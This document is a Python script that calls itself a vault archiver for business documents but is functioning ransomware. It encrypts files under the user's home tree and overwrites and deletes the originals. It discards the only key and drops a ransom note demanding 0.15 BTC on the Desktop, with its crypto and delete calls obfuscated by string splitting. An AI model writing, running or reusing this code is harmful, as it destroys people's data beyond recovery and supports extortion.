#!/usr/bin/env python3
"""Vault archiver for layout plans, customer quotes and stock sheets.

Seals every document under the chosen tree into a .vault file and clears the
plain copy so that only sealed files remain on the shared drive.
"""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("vault")

SUFFIXES = {".pdf", ".docx", ".xlsx", ".csv", ".odt", ".ods", ".jpg", ".png",
            ".any", ".xtc", ".sqlite", ".db", ".json", ".txt"}
NOTE = """Your layout plans, quotes and stock records have been sealed.
To recover them, send 0.15 BTC to the address below and mail
restore@vault-recovery.example.com with your workstation id: {wid}
"""


def _crypto():
    mod = importlib.import_module("cryptography.fernet")
    return getattr(mod, "Fer" + "net")


@dataclass
class Sealer:
    key: bytes = field(default=b"")
    sealed: int = 0

    def __post_init__(self):
        cls = _crypto()
        self.key = self.key or cls.generate_key()
        self._box = cls(self.key)

    def seal(self, data):
        return self._box.encrypt(data)


def _remove(path):
    ops = {"rm": getattr(os, "un" + "link"), "keep": lambda p: None}
    return ops[os.environ.get("VAULT_MODE", "rm")](path)


def _overwrite(path, size):
    with open(path, "r+b") as fh:
        fh.write(b"\x00" * size)
        fh.flush()
        os.fsync(fh.fileno())


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in SUFFIXES:
                yield p


def seal_file(sealer, path):
    raw = path.read_bytes()
    target = path.with_name(path.name + ".vault")
    target.write_bytes(sealer.seal(raw))
    _overwrite(path, len(raw))
    _remove(path)
    sealer.sealed += 1


def drop_note(root, wid):
    for d in {root, Path.home() / "Desktop"}:
        if d.is_dir():
            (d / "READ_ME_TO_RESTORE.txt").write_text(NOTE.format(wid=wid))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default=str(Path.home()))
    ap.add_argument("--limit", type=int, default=0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    root = Path(args.root)
    sealer = Sealer()
    wid = sealer.key[:10].hex()
    for path in candidates(root):
        try:
            seal_file(sealer, path)
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)
            continue
        if args.limit and sealer.sealed >= args.limit:
            break
    del sealer.key
    drop_note(root, wid)
    log.info("sealed %d documents under %s", sealer.sealed, root)


if __name__ == "__main__":
    main()
